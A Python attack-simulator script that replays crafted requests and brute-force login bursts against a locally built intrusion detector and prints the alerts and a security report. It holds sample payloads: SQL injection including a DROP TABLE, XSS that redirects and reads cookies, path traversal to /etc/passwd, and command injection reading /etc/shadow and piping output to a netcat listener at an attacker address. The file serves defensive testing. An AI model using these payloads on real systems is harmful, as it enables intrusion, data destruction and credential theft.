"""Attack simulator for the ChainSync Sentinel intrusion detector.

Replays crafted requests (SQL injection, XSS, path traversal, command
injection) and brute-force login bursts through a locally built
IntrusionDetector, then prints the alerts raised and a security report.

Usage:
    python simulator/simulate.py                       # run all scenarios
    python simulator/simulate.py --scenario xss
    python simulator/simulate.py --db /tmp/sim.db --delay 0
"""

from __future__ import annotations

import argparse
import asyncio
import json
import logging
import random
import sys
from pathlib import Path

# Allow running from project root
sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from sentinel.config import AlertSettings, IntrusionSettings, load_settings
from sentinel.db.database import SecurityEventStore
from sentinel.engine.alert_dispatcher import AlertDispatcher
from sentinel.engine.intrusion_detector import IntrusionDetector
from sentinel.models import RequestSurface, SecurityEventType, ThreatType

logging.basicConfig(level=logging.INFO, format="%(asctime)s [SIM] %(message)s")
logger = logging.getLogger("simulator")

ATTACKER_IPS = ["198.51.100.5", "203.0.113.42", "192.0.2.99"]

_THREAT_EVENTS = {
    ThreatType.COMMAND_INJECTION: SecurityEventType.COMMAND_INJECTION_ATTEMPT,
    ThreatType.SQL_INJECTION: SecurityEventType.SQL_INJECTION_ATTEMPT,
    ThreatType.XSS: SecurityEventType.XSS_ATTEMPT,
    ThreatType.PATH_TRAVERSAL: SecurityEventType.PATH_TRAVERSAL_ATTEMPT,
}


# ── Scenario generators ──────────────────────────────


async def _replay(detector: IntrusionDetector, surfaces: list[RequestSurface], delay: float) -> int:
    """Analyze each request and log the ones flagged as threats. Returns threats found."""
    found = 0
    for surface in surfaces:
        analysis = detector.analyze_request(surface)
        if analysis.is_threat:
            found += 1
            await detector.log_security_event(
                _THREAT_EVENTS[analysis.threat_type],
                {"ip": surface.ip, "path": surface.path, "patterns": analysis.matches},
                analysis.risk_level,
            )
            logger.info(
                "%s from %s: %s (%s)",
                analysis.threat_type.value, surface.ip, analysis.matches, analysis.risk_level.value,
            )
        else:
            logger.info("Clean request from %s: %s", surface.ip, surface.path)
        await asyncio.sleep(delay)
    return found


async def sql_injection(detector: IntrusionDetector, delay: float = 0.3) -> int:
    ip = random.choice(ATTACKER_IPS)
    payloads = ["' OR 1=1 --", "1; DROP TABLE products", "x' UNION SELECT password FROM users --"]
    return await _replay(
        detector,
        [RequestSurface(path="/api/products", query={"search": p}, ip=ip) for p in payloads],
        delay,
    )


async def xss(detector: IntrusionDetector, delay: float = 0.3) -> int:
    ip = random.choice(ATTACKER_IPS)
    payloads = [
        {"review": "<script>document.location='http://evil.example'</script>"},
        {"name": "<img src=x onerror=alert(1)>"},
        {"link": "javascript:alert(document.cookie)"},
    ]
    return await _replay(
        detector,
        [RequestSurface(path="/api/reviews", body=p, ip=ip) for p in payloads],
        delay,
    )


async def path_traversal(detector: IntrusionDetector, delay: float = 0.3) -> int:
    ip = random.choice(ATTACKER_IPS)
    paths = ["/static/../../etc/passwd", "/files/%2e%2e%2fconfig", "/download?f=..\\..\\boot.ini"]
    return await _replay(detector, [RequestSurface(path=p, ip=ip) for p in paths], delay)


async def command_injection(detector: IntrusionDetector, delay: float = 0.3) -> int:
    ip = random.choice(ATTACKER_IPS)
    payloads = ["8.8.8.8; cat /etc/shadow", "$(whoami)", "report.pdf | nc 203.0.113.42 4444"]
    return await _replay(
        detector,
        [RequestSurface(path="/api/diagnostics", query={"host": p}, ip=ip) for p in payloads],
        delay,
    )


async def brute_force(detector: IntrusionDetector, attempts: int = 6, delay: float = 0.2) -> int:
    """Failed logins against one account from one address."""
    ip = random.choice(ATTACKER_IPS)
    actor = random.choice(["admin", "cashier01", "manager"])
    for i in range(attempts):
        await detector.log_security_event(
            SecurityEventType.LOGIN_FAILURE, {"ip": ip, "actor_id": actor, "attempt": i + 1}
        )
        logger.info("Brute force: attempt %d/%d on %s", i + 1, attempts, actor)
        await asyncio.sleep(delay)

    report = await detector.detect_suspicious_activity(actor)
    logger.info("Actor %s suspicion: %s", actor, report.model_dump())
    return attempts


SCENARIOS = {
    "sql_injection": sql_injection,
    "xss": xss,
    "path_traversal": path_traversal,
    "command_injection": command_injection,
    "brute_force": brute_force,
}


# ── Main runner ──────────────────────────────────────


def build_detector(db_path: str) -> tuple[IntrusionDetector, AlertDispatcher, SecurityEventStore]:
    store = SecurityEventStore(db_path)
    dispatcher = AlertDispatcher(AlertSettings(channels=["log"]))
    detector = IntrusionDetector(store, dispatcher, IntrusionSettings())
    return detector, dispatcher, store


async def run(scenarios: list[str], db_path: str, delay: float) -> dict:
    detector, dispatcher, store = build_detector(db_path)
    await store.init()

    for name in scenarios:
        logger.info("=== Starting scenario: %s ===", name)
        await SCENARIOS[name](detector, delay=delay)

    report = await detector.generate_security_report(1)
    alerts = dispatcher.get_alert_history()
    logger.info("=== %d alerts raised, %d events recorded ===", len(alerts), report.total_events)
    return {
        "alerts": [a.model_dump(mode="json") for a in alerts],
        "report": report.model_dump(mode="json"),
    }


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description="ChainSync Sentinel attack simulator")
    parser.add_argument("--scenario", choices=list(SCENARIOS.keys()), help="Run a single scenario")
    parser.add_argument("--db", default=None, help="SQLite file for security events")
    parser.add_argument("--delay", type=float, default=0.3, help="Seconds between simulated requests")
    return parser.parse_args(argv)


def main(argv: list[str] | None = None) -> None:
    args = parse_args(argv)
    db_path = args.db or load_settings().db_path
    scenarios = [args.scenario] if args.scenario else list(SCENARIOS)
    result = asyncio.run(run(scenarios, db_path, args.delay))
    print(json.dumps(result["report"], indent=2))


if __name__ == "__main__":
    main()
